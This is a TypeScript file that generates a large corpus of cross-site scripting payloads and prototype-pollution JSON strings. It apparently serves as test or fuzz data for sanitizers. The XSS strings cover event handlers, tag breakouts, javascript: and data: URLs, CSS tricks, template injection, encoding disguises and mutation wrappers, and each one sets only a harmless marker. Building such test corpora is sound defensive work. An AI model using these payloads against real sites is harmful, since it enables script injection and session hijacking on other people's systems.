// Ways to smuggle a script in, by families, and ways to reach `Object.prototype`. Made by code, and always the same ones.

/** What is run if anything is: wherever it runs, the page's own window knows. */
const RUN = 'top.ran=1'

const cross = (...lists: string[][]): string[] => lists.reduce((all, list) => all.flatMap((one) => list.map((other) => one + other)), [''])

const elements =
  `img src=x onerror|svg onload|body onload|iframe onload|input autofocus onfocus|select autofocus onfocus|textarea autofocus onfocus
video src=x onerror|audio src=x onerror|details open ontoggle|marquee onstart|object data=x onerror|embed src=x onload|style onload|script src=x onerror
link rel=stylesheet href=x onerror|button autofocus onfocus|div style=position:fixed;inset:0 onpointerenter|a href=# autofocus onfocus|form onformdata
svg><animate attributeName=x dur=1s onbegin|svg><set onbegin|video><source onerror|frameset onload|x tabindex=0 autofocus onfocus`.split(
    /[|\n]/,
  )

const cores = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<base href="javascript:/a/-${RUN}//">`,
  `<object data="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${RUN}></svg>#x">`,
]

const entities = (text: string, one: (code: number) => string) => Array.from(text, (letter) => one(letter.codePointAt(0)!)).join('')
const disguises: ((text: string) => string)[] = [
  (text) => entities(text, (code) => `&#${code};`),
  (text) => entities(text, (code) => `&#x${code.toString(16)};`),
  (text) => entities(text, (code) => `&#0000${code}`),
  (text) => entities(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => entities(text, (code) => `\\x${code.toString(16)}`),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (text) => text.replaceAll('<', '<\u200B'),
  (text) => `\u202E${text}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
]

export const families: Record<string, string[]> = {
  handlers: cross(['<'], elements, ['=', '\t=\n', "='", '="']).flatMap((open) => {
    const quote = /['"]$/.exec(open)?.[0] ?? ''
    return [`${open}${RUN}${quote}>`, `"'>${open.replaceAll(' ', '/')}${RUN}${quote}//`, open.toUpperCase() + RUN + quote]
  }),
  breakouts: cross(
    ['">', "'>", '`>', '</style>', '</title>', '</textarea>', '</script>', '</template>', '-->', ']]>', '\\">', '}</style>'],
    cores,
  ),
  urls: cross(
    [
      'javascript:',
      'JaVaScRiPt:',
      'java\tscript:',
      'java\nscript:',
      '\u0001javascript:',
      '  javascript:',
      'javascript&colon;',
      'javascript&#58;',
    ],
    ['', '//%0a', '/*--></script>*/', 'void(0);', "'-", '%0d%0a'],
    [RUN, `eval('${RUN}')`],
  ).concat(
    cross(
      ['data:text/html,', 'data:text/html;charset=utf-7,', 'data:image/svg+xml,', 'data:,', 'blob:', 'filesystem:', 'vbscript:'],
      cores.slice(0, 4),
    ),
    cross(['view-source:', 'feed:', 'jar:', 'about:blank#', '//', '\\\\', 'https://x@', 'file:'], [`javascript:${RUN}`]),
  ),
  styles: cross(
    [
      'url(',
      'expression(',
      '@import "',
      'red;background:url(',
      '}*{background:url("',
      ';behavior:url(',
      ';-moz-binding:url(',
      'var(--x,url(',
      'image-set("',
    ],
    ['javascript:', "'javascript:", 'data:text/html,<script>'],
    [`${RUN})`, `${RUN}")}</style><svg onload=${RUN}>`],
  ),
  templates: cross(
    ['${', '{{', '{{constructor.constructor("', '<%=', '#{', '[[', '{%', '@{'],
    [RUN, `alert(${RUN})`, `self[atob('cmFu')]=1`],
    ['}', '}}', '")()}}', '%>', ']]'],
  ),
  disguises: disguises.flatMap((disguise) => cores.map(disguise)),
  mutations: cross(
    [
      '<math><mtext>',
      '<math><annotation-xml encoding="text/html">',
      '<svg><foreignObject>',
      '<svg><style>',
      '<noscript>',
      '<xmp>',
      '<noembed>',
    ],
    ['<p title="</style></noscript></xmp></noembed>', '<table><mglyph><style><!--</style>', '<!--><', ''],
    cores.slice(0, 6),
  ),
}

export const payloads = Object.values(families).flat()

const names = [
  '__proto__',
  'constructor',
  'prototype',
  '__defineGetter__',
  '__defineSetter__',
  '__lookupGetter__',
  'toString',
  'valueOf',
].concat('hasOwnProperty', 'isPrototypeOf', 'toLocaleString', 'propertyIsEnumerable')
const expected = ['accent', 'total', 'lines', 'theme', 'texts', 'links', 'points', 'member', 'token']

/** JSON that reaches for a prototype: by name, through another, in a list, below a name that is expected. */
export const pollutions: string[] = names.flatMap((name) => [
  `{"${name}":{"polluted":1}}`,
  `{"${name}":{"${name}":{"polluted":1}}}`,
  `{"constructor":{"${name}":{"polluted":1}}}`,
  `{"accent":"#0a5","${name}":"polluted"}`,
  `{"${name}":["polluted"],"total":{"${name}":{"polluted":1}}}`,
  `[{"${name}":{"polluted":1}}]`,
  `{"\\u005f_proto__":{"polluted":1},"${name}.polluted":1,"${name}[polluted]":1}`,
  `["${name}","polluted",{"${name}":{"polluted":1}}]`,
  ...expected.map((key) => `{"${key}":{"${name}":{"polluted":1}},"surface":"#fff"}`),
])
